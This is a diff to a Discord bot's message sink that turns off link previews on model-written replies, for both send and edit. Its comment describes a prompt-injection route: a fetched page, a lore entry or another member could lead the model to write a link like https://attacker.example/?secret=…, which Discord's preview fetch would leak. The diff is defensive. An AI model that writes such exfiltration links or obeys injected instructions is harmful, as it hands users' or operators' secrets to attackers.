@@ -198,15 +198,18 @@ class DiscordSink:
     def message_key(handle: discord.Message) -> str:
         return f"{PLATFORM}-message:{handle.id}"
 
+    # A reply the model wrote shows no link previews: Discord's servers fetch a previewed link at once, so a
+    # model talked into writing https://attacker.example/?secret=… (by a fetched page, a lore entry, another
+    # member) would hand the secret over without anyone clicking. Links stay links.
     async def send(self, text: str) -> discord.Message:
         try:
-            return await self.channel.send(text, allowed_mentions=NO_PINGS)
+            return await self.channel.send(text, allowed_mentions=NO_PINGS, suppress_embeds=True)
         except discord.HTTPException as exc:
             raise _rate_limited(exc) from exc
 
     async def edit(self, handle: discord.Message, text: str) -> None:
         try:
-            await handle.edit(content=text, allowed_mentions=NO_PINGS)
+            await handle.edit(content=text, allowed_mentions=NO_PINGS, suppress=True)
         except discord.NotFound as exc:  # deleted meanwhile (a moderator): not to be sent again
             raise MessageGone() from exc
         except discord.HTTPException as exc:
